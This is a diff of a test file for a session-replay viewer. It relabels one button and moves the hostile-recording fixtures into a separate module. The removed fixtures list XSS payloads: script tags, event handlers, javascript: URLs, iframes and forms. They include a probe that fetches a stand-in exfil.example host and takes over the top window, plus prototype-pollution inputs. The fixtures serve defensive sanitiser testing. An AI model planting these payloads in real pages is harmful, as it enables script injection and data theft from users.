@@ -2,7 +2,8 @@
 // recordings. Recordings are uploaded as a recorder would make them, or as nobody should.
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { change, click, custom, element, full, input, meta, text, upload as uploadTo } from './made.mjs';
+import { change, click, custom, element, full, input, meta, upload as uploadTo } from './made.mjs';
+import { HOSTILE, MALFORMED, PASSIVE } from './hostile.mjs';
 import { Api, inReplay, signIn, stage, until } from './support.mjs';
 import { upload as uploadLong } from '../benches/dashboard/recording.mjs';
 
@@ -228,7 +229,7 @@ test('on a phone the controls are two rows, and all buttons are beside the way b
     const [play, speed] = [await middle(page.getByTestId('play')), await middle(select)];
     assert.ok(Math.abs(play - speed) < 4, `${play} and ${speed} are one row`);
     const back = await middle(page.getByRole('link', { name: 'Back to the sessions' }));
-    const buttons = ['Next session (J)', 'Copy link', 'JSON', 'Delete'].map((name) => page.getByLabel(name).or(page.locator('.replay-actions > *', { hasText: name })).first());
+    const buttons = ['Next session (J)', 'Copy link', 'Share', 'Delete'].map((name) => page.getByLabel(name).or(page.locator('.replay-actions > *', { hasText: name })).first());
     for (const button of buttons) {
       assert.ok(Math.abs((await middle(button)) - back) < 4, 'beside the way back');
     }
@@ -287,34 +288,6 @@ test('a long recording: a part of it is in the frame, and what is decoded is dec
 });
 
 // ── Hostile recordings ────────────────────────────────────────────────────
-
-const PROBE = 'self.ran=1;fetch("https://exfil.example/ran");top.document.title="owned";parent.postMessage("owned","*")';
-const DATA = `data:text/html,<script>${PROBE}</script>`;
-/** What may be asked for: what a page shows. */
-const PASSIVE = /\/passive\.(png|css|woff2|mp4)$/;
-
-const HOSTILE = {
-  'script elements': [element(20, 'script', {}, [text(21, PROBE)]), element(22, 'script', { src: 'https://exfil.example/x.js' }), element(23, 'script', { type: 'module', src: DATA }), element(24, 'noscript', {}, [element(25, 'script', {}, [text(26, PROBE)])])],
-  'event handlers': [element(20, 'img', { src: 'https://exfil.example/passive.png', onerror: PROBE, onload: PROBE }), element(21, 'svg', { onload: PROBE }), element(22, 'video', { src: 'https://exfil.example/passive.mp4', onerror: PROBE }), element(23, 'details', { open: '', ontoggle: PROBE }), element(24, 'input', { autofocus: '', onfocus: PROBE })],
-  'addresses that are scripts': [element(20, 'a', { href: `javascript:${PROBE}` }), element(21, 'iframe', { src: `javascript:${PROBE}` }), element(22, 'embed', { src: `javascript:${PROBE}` }), element(23, 'object', { data: `javascript:${PROBE}` }), element(24, 'form', { action: `javascript:${PROBE}` }, [element(25, 'button', {})]), { ...element(26, 'svg', {}, [{ ...element(27, 'a', { 'xlink:href': `javascript:${PROBE}` }), isSVG: true }]), isSVG: true }],
-  'frames and plugins': [element(20, 'iframe', { src: 'https://exfil.example/frame' }), element(21, 'iframe', { srcdoc: `<script>${PROBE}</script><img src="https://exfil.example/passive.png">` }), element(22, 'iframe', { src: DATA }), element(23, 'object', { data: 'https://exfil.example/object', type: 'text/html' }), element(24, 'embed', { src: 'https://exfil.example/embed', type: 'text/html' }), element(25, 'frameset', {}, [element(26, 'frame', { src: 'https://exfil.example/frameset' })]), element(27, 'portal', { src: 'https://exfil.example/portal' })],
-  'forms that send themselves': [element(20, 'form', { action: 'https://exfil.example/form', method: 'post', target: '_top' }, [element(21, 'input', { name: 'a', value: '1', autofocus: '' }), element(22, 'button', { type: 'submit' })]), element(23, 'isindex', { action: 'https://exfil.example/isindex' })],
-  'links that fetch': [element(20, 'link', { rel: 'prefetch', href: 'https://exfil.example/prefetch' }), element(21, 'link', { rel: 'prerender', href: 'https://exfil.example/prerender' }), element(22, 'link', { rel: 'modulepreload', href: 'https://exfil.example/module.js' }), element(23, 'link', { rel: 'preload', as: 'script', href: 'https://exfil.example/preload.js' }), element(24, 'link', { rel: 'manifest', href: 'https://exfil.example/manifest' }), element(25, 'link', { rel: 'import', href: 'https://exfil.example/import' }), element(26, 'a', { href: 'https://exfil.example/a', ping: 'https://exfil.example/ping' }), element(27, 'link', { rel: 'stylesheet', href: 'https://exfil.example/passive.css' })],
-  'pages that leave': [element(20, 'meta', { 'http-equiv': 'refresh', content: '0;url=https://exfil.example/refresh' }), element(21, 'meta', { 'http-equiv': 'Content-Security-Policy', content: 'script-src * \'unsafe-inline\'' }), element(22, 'meta', { 'http-equiv': 'set-cookie', content: 'a=b' })],
-  'another base': [element(20, 'base', { href: 'https://exfil.example/', target: '_top' }), element(21, 'img', { src: 'passive.png' }), element(22, 'script', { src: 'x.js' })],
-  'styles that are scripts': [element(20, 'style', {}, [text(21, `p{background:url("javascript:${PROBE}");behavior:url(https://exfil.example/x.htc);-moz-binding:url(https://exfil.example/x.xml)}@import url("https://exfil.example/passive.css");`)]), element(22, 'p', { style: `background:url("javascript:${PROBE}")` })],
-  'names of prototypes': [element(20, 'p', JSON.parse('{"__proto__":{"polluted":"1"},"constructor":{"prototype":{"polluted":"1"}},"class":"x"}')), JSON.parse('{"type":2,"tagName":"p","attributes":{},"childNodes":[],"id":21,"__proto__":{"polluted":1}}'), element(22, '__proto__', {}), element(23, 'constructor', {})],
-  'elements that cannot be': [element(20, 'p onload=x', {}), element(21, '', {}), element(22, '<script>', {}), element(23, 'p', { '"><script>': '1', ' ': '2', 'on load': PROBE }), { type: 99, id: 24 }, { type: 2, id: 25 }, element(5, 'p', {}), element(-1, 'p', {}), element(2 ** 53, 'p', {})],
-};
-
-/** Events after a good snapshot that make no sense, or too much. */
-const MALFORMED = {
-  'changes of what is not there': [change({ removes: [{ parentId: 77, id: 78 }], texts: [{ id: 79, value: 'x' }], attributes: [{ id: 80, attributes: { class: 'x' } }], adds: [{ parentId: 81, nextId: null, node: element(82, 'p') }] }), change({ adds: [{ parentId: 4, nextId: 999, previousId: 998, node: element(83, 'p') }] }), change({ adds: [{ parentId: 84, nextId: null, node: element(84, 'p') }] })],
-  'events of other shapes': [{ type: 3, data: null }, { type: 3, data: [] }, { type: 3, data: { source: 0 } }, { type: 3, data: { source: 99 } }, { type: 99, data: {} }, { type: 3, data: { source: 1, positions: null } }, { type: 3, data: { source: 5, id: 5 } }, { type: 3, data: { source: 8, id: 5, adds: [{ rule: '{{{', index: -1 }] } }, { type: 3, data: { source: 13, id: 5, set: {} } }, { type: 3, data: { source: 9, id: 5, type: 0, property: 'constructor', args: ['x'] } }, { type: 2, data: {} }, { type: 2, data: { node: null } }],
-  'sizes beyond measure': [meta('https://victim.example/', { width: 1e9, height: 1e9 }), { type: 3, data: { source: 4, width: -5, height: 1e300 } }, { type: 3, data: { source: 3, id: 1, x: 1e300, y: -1e300 } }, click(5, 1e300, -1e300), change({ attributes: [{ id: 5, attributes: { style: 'width:99999999px;height:99999999px', class: 'is-here' } }] })],
-  'names of prototypes': [JSON.parse('{"type":3,"data":{"source":0,"texts":[],"removes":[],"adds":[],"attributes":[{"id":5,"attributes":{"__proto__":{"polluted":"1"},"constructor":{"prototype":{"polluted":"1"}}}},{"id":"__proto__","attributes":{"polluted":"1"}},{"id":5,"attributes":{"style":{"__proto__":["x","important"],"constructor":"y"}}}]}}'), custom('__proto__', { polluted: 1 }), custom('constructor', JSON.parse('{"__proto__":{"polluted":1}}'))],
-  'scripts that come later': [change({ adds: [{ parentId: 4, nextId: null, node: element(90, 'script', {}, [text(91, PROBE)]) }, { parentId: 4, nextId: null, node: element(92, 'iframe', { srcdoc: `<script>${PROBE}</script>` }) }] }), change({ attributes: [{ id: 5, attributes: { onclick: PROBE, onmouseover: PROBE, class: 'is-here' } }] }), change({ adds: [{ parentId: 4, nextId: null, node: element(93, 'img', { src: 'https://exfil.example/passive.png' }) }], attributes: [{ id: 93, attributes: { onerror: PROBE } }] }), click(5)],
-};
 
 /** Opens a recording and reports what it reached. */
 async function visit(events) {
